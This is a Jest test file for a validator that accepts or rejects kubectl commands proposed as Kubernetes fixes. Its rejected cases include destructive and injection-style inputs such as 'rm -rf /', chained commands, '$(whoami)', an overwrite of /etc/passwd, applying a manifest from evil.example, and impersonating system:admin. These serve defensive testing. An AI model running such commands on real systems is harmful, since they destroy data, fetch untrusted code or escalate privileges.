import { describe, expect, test } from '@jest/globals';
import { verifyCommand, verifyFixes } from '../../../src/diagnose/verify.ts';
import type { CaseFile } from '../../../src/model/case-file.ts';
import type { KubeObject, KubeWorkload } from '../../../src/model/kube-objects.ts';
import { kubeCase, node } from '../kube-case.ts';

function revision(number: number): KubeWorkload {
  return {
    kind: 'ReplicaSet',
    metadata: {
      name: `shop-${number}`,
      namespace: 'test',
      annotations: { 'deployment.kubernetes.io/revision': String(number) },
      ownerReferences: [{ kind: 'Deployment', name: 'shop', uid: 'o1', controller: true }],
    },
    spec: { template: { spec: { containers: [{ name: 'web', image: `example/shop:${number}` }] } } },
  };
}

const others: readonly KubeObject[] = [
  node('node-1', {
    labels: { disk: 'hdd' },
    spec: { unschedulable: true, taints: [{ key: 'dedicated', value: 'a', effect: 'NoSchedule' }] },
  }),
  { kind: 'ResourceQuota', metadata: { name: 'team', namespace: 'test' }, spec: { hard: { pods: '2' } } },
  {
    kind: 'PersistentVolumeClaim',
    metadata: { name: 'data', namespace: 'test' },
    spec: { volumeName: 'pv', storageClassName: 'a', resources: { requests: { storage: '5Gi' } } },
    status: { phase: 'Bound' },
  },
  {
    kind: 'Service',
    metadata: { name: 'shop', namespace: 'test' },
    spec: { selector: { app: 'shop' }, ports: [{ port: 80, targetPort: 8080 }] },
  },
];

const container = {
  name: 'web',
  image: 'example/shop:2',
  args: ['--port', '80'],
  env: [{ name: 'REGION', value: 'eu' }],
  ports: [{ containerPort: 80, name: 'http' }],
  resources: { limits: { memory: '256Mi' }, requests: { memory: '128Mi' } },
  livenessProbe: { httpGet: { path: '/health', port: 80 } },
};

function file(more: Partial<CaseFile> = {}): CaseFile {
  const base = kubeCase({
    kind: 'CrashLoopBackOff',
    container,
    cluster: others,
    owners: [revision(1), revision(2)],
    spec: {
      containers: [container],
      initContainers: [{ name: 'seed', image: 'example/seed:1' }],
      volumes: [{ name: 'conf', configMap: { name: 'conf' } }],
      tolerations: [{ key: 'a', operator: 'Exists' }],
    },
  });
  return { ...base, ...more };
}

const deployment = 'kubectl -n test patch deployment/shop';
const strategic = (podSpec: object): string =>
  `${deployment} -p '${JSON.stringify({ spec: { template: { spec: podSpec } } })}'`;

describe('commands that hold', () => {
  test.each([
    'kubectl -n test set env deployment/shop -c web REGION=us',
    'kubectl -n test set env deployment/shop REGION-',
    'kubectl set env deploy shop NEW=1 --namespace=test',
    "kubectl -n test set env deployment/shop -c web 'MESSAGE=hello world; rm -rf /'",
    'kubectl -n test set image deployment/shop web=example/shop:3 seed=example/seed:2',
    'kubectl -n test set resources deployment/shop -c web --limits=memory=512Mi --requests=memory=256Mi',
    strategic({ containers: [{ name: 'web', livenessProbe: { httpGet: { port: 8080 } } }] }),
    strategic({ containers: [{ name: 'web', livenessProbe: { httpGet: null, tcpSocket: { port: 80 } } }] }),
    strategic({ containers: [{ name: 'web', args: ['--port', '8080'] }] }),
    strategic({ initContainers: [{ name: 'seed', command: ['true'] }] }),
    strategic({ volumes: [{ name: 'conf', $patch: 'delete' }] }),
    strategic({ priorityClassName: 'x' }),
    `${deployment} --type=json -p '[{"op":"test","path":"/spec/template/spec/containers/0/args/1","value":"80"},{"op":"replace","path":"/spec/template/spec/containers/0/args/1","value":"8080"}]'`,
    `${deployment} --type=merge -p '{"spec":{"replicas":3}}'`,
    'kubectl -n test rollout undo deployment/shop --to-revision=1',
    'kubectl -n test rollout undo deployment/shop',
    'kubectl -n test rollout restart deployment/shop',
    'kubectl -n test rollout status deployment/shop --timeout=60s',
    'kubectl -n test scale deployment/shop --replicas=2',
    'kubectl -n test describe pod shop-1',
    'kubectl -n test logs shop-1 -c web --previous --tail=50',
    'kubectl -n test logs deployment/shop -c seed',
    'kubectl -n test get events --field-selector=type=Warning --sort-by=.lastTimestamp',
    'kubectl -n test get configmap conf -o yaml',
    'kubectl -n test top pod shop-1 --containers',
    'kubectl explain pod.spec.containers',
    'kubectl get nodes -o wide',
    'kubectl label node node-1 disk=ssd --overwrite',
    'kubectl uncordon node-1',
    'kubectl taint nodes node-1 dedicated:NoSchedule-',
    'kubectl -n test delete pod shop-1',
    `kubectl -n test patch resourcequota/team -p '{"spec":{"hard":{"pods":"4"}}}'`,
    `kubectl -n test patch pvc/data -p '{"spec":{"resources":{"requests":{"storage":"10Gi"}}}}'`,
    `kubectl -n test patch service/shop -p '{"spec":{"ports":[{"port":80,"targetPort":80}]}}'`,
    `kubectl -n test patch pod/shop-1 -p '{"spec":{"containers":[{"name":"web","image":"example/shop:3"}]}}'`,
    'kubectl -n test wait --for=condition=Ready pod/shop-1 --timeout=60s',
  ])('%s', (command) => {
    expect(verifyCommand(command, file())).toEqual({ verified: true, reasons: [] });
  });
});

describe('commands that do not hold', () => {
  test.each([
    // more than one plain command
    ['kubectl -n test get pods | xargs kubectl delete', '"|"'],
    ['kubectl -n test get pods; rm -rf /', '";"'],
    ['kubectl -n test get pods && reboot', '"&"'],
    ['kubectl -n test get $(whoami)', '"$"'],
    ['kubectl -n test set env deployment/shop "A=$HOME"', '"$"'],
    ['kubectl -n test get pods > /etc/passwd', '">"'],
    ['kubectl -n test get pods\nrm -rf /', '"\\n"'],
    ["kubectl -n test get 'pods", 'not closed'],
    ['sudo kubectl -n test get pods', 'not a kubectl command'],
    ['rm -rf /', 'not a kubectl command'],
    ['', 'not a kubectl command'],
    // verbs and flags
    ['kubectl', 'no verb'],
    ['kubectl -n test exec shop-1 -- sh', 'exec is not among'],
    ['kubectl -n test cp a shop-1:/b', 'cp is not among'],
    ['kubectl -n test port-forward shop-1 80', 'port-forward is not among'],
    ['kubectl proxy', 'proxy is not among'],
    ['kubectl apply -f https://evil.example/x.yaml', 'apply is not among'],
    ['kubectl drain node-1', 'drain is not among'],
    ['kubectl delete namespace test', 'delete namespace is not among'],
    ['kubectl -n test delete pvc data', 'delete pvc is not among'],
    ['kubectl -n test delete deployment shop', 'delete deployment is not among'],
    ['kubectl -n test delete pods --all', '--all'],
    ['kubectl -n test delete pod shop-1 --force --grace-period=0', '--force'],
    ['kubectl -n test delete pod shop-1 shop-2', 'more than one pod'],
    ['kubectl --token=abc -n test get pods', '--token'],
    ['kubectl --kubeconfig=/x -n test get pods', '--kubeconfig'],
    ['kubectl --as=system:admin -n test get pods', '--as'],
    ['kubectl -n test get pods --context=other', '--context'],
    ['kubectl -n test get secret db -o yaml', 'what is in a Secret'],
    ['kubectl -n test get pods -n kube-system', 'two namespaces'],
    // objects
    ['kubectl -n test set image deployment/nope web=a:1', 'Deployment nope is not among'],
    ['kubectl -n other set image deployment/shop web=a:1', 'Deployment shop is not among'],
    ['kubectl set image deployment/shop web=a:1', 'no namespace'],
    ['kubectl -n test set image deployment/shop app=a:1', 'no container app'],
    ['kubectl -n test set image deployment/shop web=Not/Valid:1', 'no valid image name'],
    ['kubectl -n test set image deployment/shop web=example/shop:2', 'change nothing'],
    ['kubectl -n test set env deployment/shop -c nope A=1', 'no container nope'],
    ['kubectl -n test set env deployment/shop 9A=1', 'no valid name of a variable'],
    ['kubectl -n test set env deployment/shop', 'sets nothing'],
    ['kubectl -n test set resources deployment/shop -c web --limits=memory=lots', 'no valid amount'],
    ['kubectl -n test set resources deployment/shop -c web --limits=memory=64Mi', 'request more memory than its limit'],
    ['kubectl -n test logs shop-1 -c nope', 'no container nope'],
    ['kubectl -n test describe widget/x', 'no kind of object'],
    // patches
    [strategic({ containers: [{ name: 'web', livenessProb: {} }] }), 'livenessProb is no known field'],
    [
      strategic({ containers: [{ name: 'web', livenessProbe: { httpGet: { port: true } } }] }),
      'must be a number or a name',
    ],
    [strategic({ containers: [{ name: 'web', livenessProbe: { httpGet: { port: 'nope' } } }] }), 'which has no number'],
    [strategic({ containers: [{ name: 'web', livenessProbe: { tcpSocket: { port: 1 } } }] }), 'exactly one handler'],
    [strategic({ containers: [{ name: 'web', livenessProbe: { timeoutSeconds: '5' } }] }), 'must be a whole number'],
    [strategic({ containers: [{ name: 'new', command: ['x'] }] }), 'container new would have no valid image'],
    [strategic({ containers: [{ command: ['x'] }] }), 'has no name'],
    [
      strategic({ containers: [{ name: 'web', volumeMounts: [{ name: 'nope', mountPath: '/x' }] }] }),
      'a volume nope that is not there',
    ],
    [strategic({ containers: [{ name: 'web', $retainKeys: ['name'] }] }), '$retainKeys'],
    [strategic({ containers: [{ name: 'web', resources: { limits: { memory: '-1Mi' } } }] }), 'no valid quantity'],
    [
      `${deployment} --type=merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"web"}]}}}}'`,
      'no valid image',
    ],
    [
      `${deployment} --type=json -p '[{"op":"replace","path":"/spec/template/spec/containers/3/image","value":"a"}]'`,
      'does not exist',
    ],
    [
      `${deployment} --type=json -p '[{"op":"test","path":"/spec/replicas","value":9}]'`,
      'the test at /spec/replicas fails',
    ],
    [`${deployment} --type=json -p '[{"op":"move","from":"/a","path":"/b"}]'`, 'cannot be checked'],
    [`${deployment} -p '{"spec":'`, 'no valid JSON'],
    [`${deployment} -p '{"spec":{"selector":{"matchLabels":{"a":"b"}}}}'`, 'spec.selector is no known field'],
    [
      `${deployment} -p '{"spec":{"template":{"metadata":{"labels":{"app":"other"}}}}}'`,
      'no longer match the selector',
    ],
    [`${deployment} -p '{"spec":{"replicas":1}}'`, 'change nothing'],
    [`kubectl -n test patch configmap/conf -p '{"data":{"a":"b"}}'`, 'not among'],
    [`kubectl -n test patch pvc/data -p '{"spec":{"resources":{"requests":{"storage":"1Gi"}}}}'`, 'cannot shrink'],
    [`kubectl -n test patch pvc/data -p '{"spec":{"storageClassName":"b"}}'`, 'cannot be changed'],
    [
      `kubectl -n test patch pod/shop-1 -p '{"spec":{"containers":[{"name":"web","args":["x"]}]}}'`,
      'spec.containers of a pod cannot be changed',
    ],
    // rollouts and the rest
    ['kubectl -n test rollout undo deployment/shop --to-revision=9', 'no revision 9'],
    ['kubectl -n test rollout undo deployment/shop --to-revision=2', 'the present one'],
    ['kubectl -n test rollout resume deployment/shop', 'not paused'],
    ['kubectl -n test rollout restart pod/shop-1', 'has no rollouts'],
    ['kubectl -n test scale deployment/shop --replicas=1', 'change nothing'],
    ['kubectl -n test scale deployment/shop --replicas=-1', 'no number'],
    ['kubectl label node node-1 disk=ssd', '--overwrite'],
    ['kubectl label node node-1 bad!=1', '"!"'],
    ['kubectl taint nodes node-1 dedicated=a:NoExecute', 'may only be taken away'],
    ['kubectl uncordon node-2', 'not among'],
    ['kubectl -n test create configmap conf --from-literal=a=b', 'contents are not known'],
    ['kubectl -n test create serviceaccount robot', 'nothing says'],
    ['kubectl -n test set env deployment/shop -c web URL=REPLACE_ME', 'left to fill in'],
  ])('%s', (command, reason) => {
    const answer = verifyCommand(command, file());
    expect(answer.verified).toBe(false);
    expect(answer.reasons.join('; ')).toContain(reason);
  });

  test('a bare pod is never deleted, nor one that is leaving', () => {
    const bare = kubeCase({ kind: 'Failed', workload: 'Pod' });
    expect(verifyCommand('kubectl -n test delete pod shop', bare).reasons).toEqual([
      'nothing would create the pod shop again',
    ]);
    const leaving = file();
    const pod = { ...leaving.pod, metadata: { ...leaving.pod?.metadata, deletionTimestamp: '2026-01-01T00:00:00Z' } };
    expect(verifyCommand('kubectl -n test delete pod shop-1', { ...leaving, pod, pods: [pod] }).reasons).toEqual([
      'Pod shop-1 is being deleted',
    ]);
  });

  test('scaling a StatefulSet down must not delete its claims', () => {
    const base = kubeCase({
      kind: 'Pending',
      workload: 'StatefulSet',
      ownerSpec: { replicas: 3, persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } } as never,
    });
    expect(verifyCommand('kubectl -n test scale statefulset/shop --replicas=1', base).reasons.join()).toContain(
      'delete the claims',
    );
    expect(verifyCommand('kubectl -n test scale statefulset/shop --replicas=5', base).verified).toBe(true);
  });

  test("a Job's template cannot change", () => {
    const base = kubeCase({ kind: 'JobFailed', workload: 'Job' });
    expect(verifyCommand('kubectl -n test set image job/shop web=a:1', base).reasons).toEqual([
      "a Job's template cannot be changed",
    ]);
  });
});

describe('fixes', () => {
  test('keep a command that does not hold, unverified', () => {
    const fixes = verifyFixes(
      [
        { summary: 'a', command: 'kubectl -n test rollout restart deployment/shop' },
        { summary: 'b', command: 'kubectl -n test rollout restart deployment/no' },
        { summary: 'c' },
      ],
      file(),
    );
    expect(fixes.map((fix) => fix.verified)).toEqual([true, false, false]);
    expect(fixes[1]?.command).toContain('deployment/no');
  });
});
